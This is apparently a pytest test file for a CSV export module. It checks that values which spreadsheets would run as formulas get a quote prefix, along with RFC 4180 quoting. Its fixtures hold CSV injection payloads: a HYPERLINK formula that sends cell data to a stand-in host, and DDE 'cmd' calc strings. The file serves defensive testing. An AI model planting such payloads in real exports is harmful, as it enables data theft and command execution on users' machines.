"""CSV for a spreadsheet (cycle.csvout): RFC 4180, UTF-8 with a byte order mark, and no cell that a spreadsheet
would run as a formula, in every CSV cycle writes."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from cycle import csvout

from .conftest import Cli

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", " =1+1", "\n@x", "\uff1d1+1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_gets_a_quote_in_front(formula: str) -> None:
    assert csvout.neutral(formula) == "'" + formula


@pytest.mark.parametrize("number", ["-250.00", "-1", "0", "3600000.00", "2027-09-30"])
def test_numbers_and_dates_are_data(number: str) -> None:
    assert csvout.neutral(number) == number


@pytest.mark.parametrize("text", ["Trust X", "a=b", "'=already quoted", "", "CAMHS-2027-01", "1+1", "-"])
def test_other_text_is_as_written(text: str) -> None:
    assert csvout.neutral(text) == ("'-" if text == "-" else text)


def test_rfc_4180_quoting_and_line_ends() -> None:
    text = csvout.text(["a", "b"], [["x, y", 'say "hi"'], ["two\nlines", None], [-5, True]])
    assert text == '\ufeffa,b\r\n"x, y","say ""hi"""\r\n"two\nlines",\r\n-5,true\r\n'
    assert list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))) == \
        [["a", "b"], ["x, y", 'say "hi"'], ["two\nlines", ""], ["-5", "true"]]


def test_rows_come_a_batch_at_a_time() -> None:
    pieces = list(csvout.lines(["n"], ([i] for i in range(450))))
    assert len(pieces) == 3 and "".join(pieces).count("\r\n") == 451


EVIL = "=HYPERLINK(\"http://evil.example\",\"Trust Y\")"


def _cells(raw: bytes) -> list[list[str]]:
    text = raw.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def _every_csv(run: Cli, tmp_path: Path) -> dict[str, list[list[str]]]:
    out = {"contracts list": _cells(run("contracts", "list", "--status", "all", "--csv").stdout_bytes),
           "project list": _cells(run("project", "list", "--csv").stdout_bytes)}
    export = tmp_path / "audit.csv"
    run("export", "audit", "--format", "csv", "--out", str(export))
    out["export audit"] = _cells(export.read_bytes())
    return out


def test_a_formula_in_a_provider_or_title_is_neutralised_in_every_csv(run: Cli, tmp_path: Path) -> None:
    run("init")
    run("project", "new", "evil", "--title", "@SUM(1+1)*cmd|' /C calc'!A0")
    run("contract", "set", "evil", "--provider", EVIL, "--ref", "-2+3", "--start", "2025-04-01",
        "--end", "2028-03-31", "--notice", "6 months")
    found = _every_csv(run, tmp_path)
    assert set(found) == {"contracts list", "project list", "export audit"}
    for name, rows in found.items():
        cells = [c for row in rows for c in row]
        formulas = [c for c in cells if c and c[0] in "=+-@\t\r" and not csvout._NUMBER.fullmatch(c)]
        assert formulas == [], f"{name}: {formulas}"
        if name != "export audit":  # there the values are inside each entry's payload, JSON text starting with {
            assert any("'" + EVIL in c or "'@SUM" in c for c in cells), name  # there, neutralised
    [contract] = found["contracts list"][1:]
    assert contract[1:3] == ["'-2+3", "'" + EVIL]
    assert found["project list"][1][1] == "'@SUM(1+1)*cmd|' /C calc'!A0"
